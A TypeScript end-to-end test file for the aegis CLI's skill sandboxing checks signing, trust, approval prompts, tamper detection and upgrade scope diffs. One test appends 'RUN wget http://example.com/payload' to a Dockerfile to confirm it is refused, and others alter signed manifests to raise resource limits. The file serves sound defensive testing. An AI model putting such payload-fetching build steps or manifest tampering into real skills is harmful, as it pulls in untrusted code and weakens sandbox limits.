/** skills add/verify/run and simulate skill through the compiled binary: unsigned, untrusted, tampered, upgrades. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { appendFileSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { aegis, backgroundAegis, initHomeWith, jsonLines, useCompiledBinary } from "../helpers/cli.ts";
import { requireDocker } from "../helpers/docker.ts";
import { copySkill, firstPending, publisherKey, removeTestImages } from "../skills/helpers.ts";

useCompiledBinary();

const logCount = async (home: string) => jsonLines((await aegis(home, ["logs", "--json"])).stdout).length;

describe("skills CLI (compiled binary, real Docker)", () => {
  beforeAll(requireDocker);
  afterAll(removeTestImages);

  test("skills e2e: an unsigned skill is flagged; under standard it asks a person (and runs once approved), under permissive it runs", async () => {
    const standard = await initHomeWith("standard");
    const { dir } = copySkill("code-runner");
    const added = await aegis(standard, ["skills", "add", dir]);
    expect(added.exitCode).toBe(0);
    expect(added.stdout).toContain("UNSIGNED");
    expect(added.stderr).toContain("the standard policy asks a person before each run");
    const simulated = await aegis(standard, ["simulate", "--json", "skill", "code-runner", "sh", "echo hi"]);
    expect(simulated.exitCode).toBe(77);
    expect(JSON.parse(simulated.stdout)).toMatchObject({ outcome: "ask", decision: { kind: "ask", reasons: [{ rule: "standard.unsigned-skill" }] }, policyInput: { skill: { name: "code-runner", signed: false, signature: "unsigned" } } });
    const run = backgroundAegis(standard, ["skills", "run", "code-runner", "sh", "echo approved"]);
    const pending = await firstPending(standard);
    const shown = await aegis(standard, ["approvals", "list"]);
    expect(shown.stdout).toContain("skill     code-runner (signature unsigned)");
    expect((await aegis(standard, ["approvals", "approve", pending.id])).exitCode).toBe(0);
    const result = await run.done;
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toBe("approved\n");

    const permissive = await initHomeWith("permissive");
    expect((await aegis(permissive, ["skills", "add", dir])).exitCode).toBe(0);
    const direct = await aegis(permissive, ["skills", "run", "code-runner", "sh", "echo allowed"]);
    expect(direct.exitCode).toBe(0);
    expect(direct.stdout).toBe("allowed\n");
    const strict = await initHomeWith("strict");
    expect((await aegis(strict, ["skills", "add", dir])).exitCode).toBe(0);
    const denied = await aegis(strict, ["skills", "run", "code-runner", "sh", "echo never"]);
    expect(denied.exitCode).toBe(77);
    expect(denied.stderr).toContain("[strict.unsigned-skill]");
  });

  test("skills e2e: a skill signed by a key that is not trusted is flagged untrusted and asks; trusting the key makes it valid", async () => {
    const home = await initHomeWith("standard");
    const { key, pub } = await publisherKey(home);
    const { dir } = copySkill("code-runner");
    expect((await aegis(home, ["skills", "sign", dir, "--key", key])).exitCode).toBe(0);
    const added = await aegis(home, ["skills", "add", dir]);
    expect(added.stdout).toContain("UNTRUSTED: signed by key");
    expect((await aegis(home, ["skills", "verify", "code-runner"])).exitCode).toBe(1);
    expect((await aegis(home, ["simulate", "skill", "code-runner", "sh", "true"])).stdout).toContain("signature untrusted");
    expect((await aegis(home, ["simulate", "skill", "code-runner", "sh", "true"])).exitCode).toBe(77);
    expect((await aegis(home, ["skills", "trust", "add", pub, "--name", "acme"])).exitCode).toBe(0);
    expect((await aegis(home, ["skills", "verify", "code-runner"])).stdout).toContain("valid: signed by acme");
    expect((await aegis(home, ["simulate", "skill", "code-runner", "sh", "true"])).exitCode).toBe(0);
    expect((await aegis(home, ["skills", "trust", "add", key, "--name", "oops"])).stderr).toContain("is a private key");
  });

  test("skills e2e: simulate skill decides and shows the sandbox but runs and records nothing", async () => {
    const home = await initHomeWith("standard");
    const { dir } = copySkill("git-stats");
    expect((await aegis(home, ["skills", "add", dir])).exitCode).toBe(0);
    const before = await logCount(home);
    const repo = join(dir);
    const simulated = await aegis(home, ["simulate", "skill", "git-stats", "stats", "--path", `repo=${repo}`]);
    expect(simulated.stdout).toContain(`simulate: /skill/git-stats ${repo}`);
    expect(simulated.stdout).toContain("skill:     git-stats");
    expect(simulated.stdout).toMatch(/limits\s+pids 32, memory 64 MiB, cpus 0.5/);
    expect(simulated.stdout).toContain("nothing was executed or recorded");
    expect(await logCount(home)).toBe(before);
    const unbound = await aegis(home, ["simulate", "skill", "git-stats"]);
    expect(unbound.exitCode).toBe(64);
    expect(unbound.stderr).toContain("--path repo=DIR");
    expect((await aegis(home, ["skills", "run", "git-stats", "--scope", "shell.exec"])).exitCode).toBe(64);
    expect((await aegis(home, ["simulate", "skill", "nope"])).stderr).toContain("skill nope is not installed");
  });

  test("skills e2e: a skill whose image was removed from Docker refuses to run (69) and says how to fix it", async () => {
    const home = await initHomeWith("permissive");
    const { dir, tag } = copySkill("code-runner", { name: "gone-image" });
    expect((await aegis(home, ["skills", "add", dir])).exitCode).toBe(0);
    expect(Bun.spawnSync(["docker", "rmi", tag]).exitCode).toBe(0);
    const result = await aegis(home, ["skills", "run", "gone-image", "sh", "true"]);
    expect(result.exitCode).toBe(69);
    expect(result.stderr).toContain("is no longer in the Docker engine");
    expect(result.stderr).toContain("install the skill again");
  });

  test("skills e2e: a damaged install is an integrity error for list and run; add needs --yes to replace it", async () => {
    const home = await initHomeWith("permissive");
    const { dir } = copySkill("code-runner", { name: "damaged-demo" });
    expect((await aegis(home, ["skills", "add", dir])).exitCode).toBe(0);
    writeFileSync(join(home, "skills", "damaged-demo", "install.json"), "{");
    for (const args of [["skills", "list"], ["skills", "run", "damaged-demo", "sh", "true"]]) {
      const result = await aegis(home, args);
      expect(result.exitCode, args.join(" ")).toBe(1);
      expect(result.stderr).toContain("the installed skill damaged-demo is damaged");
    }
    expect((await aegis(home, ["skills", "add", dir])).exitCode).toBe(77);
    expect((await aegis(home, ["skills", "add", dir, "--yes"])).exitCode).toBe(0);
    expect((await aegis(home, ["skills", "run", "damaged-demo", "sh", "echo repaired"])).stdout).toBe("repaired\n");
  });

  test("skills e2e: an upgrade that adds scopes shows the diff and is refused without confirmation; --yes accepts it", async () => {
    const home = await initHomeWith("standard");
    const v1 = copySkill("code-runner", { name: "upgrade-demo" });
    expect((await aegis(home, ["skills", "add", v1.dir])).exitCode).toBe(0);
    const v2 = copySkill(v1.dir, { name: "upgrade-demo", version: "2.0.0" });
    const manifest = join(v2.dir, "manifest.yaml");
    writeFileSync(manifest, readFileSync(manifest, "utf8").replace("  - shell.exec:/skill/run-awk\n", "  - shell.exec:/skill/run-awk\n  - net.outbound:api.example.com:443\n  - files.read:{data}\n"));
    const refused = await aegis(home, ["skills", "add", v2.dir]);
    expect(refused.exitCode).toBe(77);
    expect(refused.stderr).toContain(`upgrade    ${v1.version} -> ${v2.version}`);
    expect(refused.stderr).toContain("+ net.outbound:api.example.com:443   (new)");
    expect(refused.stderr).toContain("+ files.read:{data}   (new)");
    expect(refused.stderr).toContain("nobody confirmed it");
    expect(JSON.parse((await aegis(home, ["skills", "list", "--json"])).stdout).skills[0].version).toBe(v1.version);
    const accepted = await aegis(home, ["skills", "add", v2.dir, "--yes", "--json"]);
    expect(accepted.exitCode).toBe(0);
    expect(JSON.parse(accepted.stdout)).toMatchObject({ installed: { name: "upgrade-demo", version: v2.version }, upgrade: { from: v1.version, added: ["net.outbound:api.example.com:443", "files.read:{data}"], removed: [] } });
    const notes = jsonLines((await aegis(home, ["logs", "--json"])).stdout).filter((entry) => entry.type === "policy").map((entry) => entry.note);
    expect(notes).toEqual([`skill upgrade-demo ${v1.version} installed (signature unsigned)`, `skill upgrade-demo ${v2.version} upgraded from ${v1.version} (signature unsigned)`]);
  });

  test("skills e2e: a tampered install is denied at run time (audited); a tampered signed directory and a RUN Dockerfile are refused at add", async () => {
    const home = await initHomeWith("permissive");
    const { key, pub } = await publisherKey(home);
    expect((await aegis(home, ["skills", "trust", "add", pub, "--name", "acme"])).exitCode).toBe(0);
    const { dir } = copySkill("code-runner");
    expect((await aegis(home, ["skills", "sign", dir, "--key", key])).exitCode).toBe(0);
    expect((await aegis(home, ["skills", "add", dir])).exitCode).toBe(0);
    const installed = join(home, "skills", "code-runner", "manifest.yaml");
    writeFileSync(installed, readFileSync(installed, "utf8").replace("pids: 32", "pids: 4096"));
    const denied = await aegis(home, ["skills", "run", "code-runner", "sh", "echo never"]);
    expect(denied.exitCode).toBe(77);
    expect(denied.stdout).toBe("");
    expect(denied.stderr).toContain("[builtin.skill-signature-invalid]");
    const decision = jsonLines((await aegis(home, ["logs", "--json"])).stdout).findLast((entry) => entry.type === "decision");
    expect(decision).toMatchObject({ decision: { kind: "deny" }, request: { skill: { name: "code-runner", signature: "invalid" } } });

    writeFileSync(join(dir, "manifest.yaml"), readFileSync(join(dir, "manifest.yaml"), "utf8").replace("memory: 64m", "memory: 200m"));
    const tampered = await aegis(home, ["skills", "add", dir]);
    expect(tampered.exitCode).toBe(65);
    expect(tampered.stderr).toContain("manifest.yaml: invalid signature: the signature does not verify: the manifest changed since it was signed");

    const unsafe = copySkill("git-stats");
    appendFileSync(join(unsafe.dir, "Dockerfile"), "RUN wget http://example.com/payload\n");
    const refused = await aegis(home, ["skills", "add", unsafe.dir]);
    expect(refused.exitCode).toBe(65);
    expect(refused.stderr).toMatch(/Dockerfile:4: RUN is not allowed/);
    expect((await aegis(home, ["skills", "list", "--json"])).stdout).not.toContain("git-stats");
  });
});
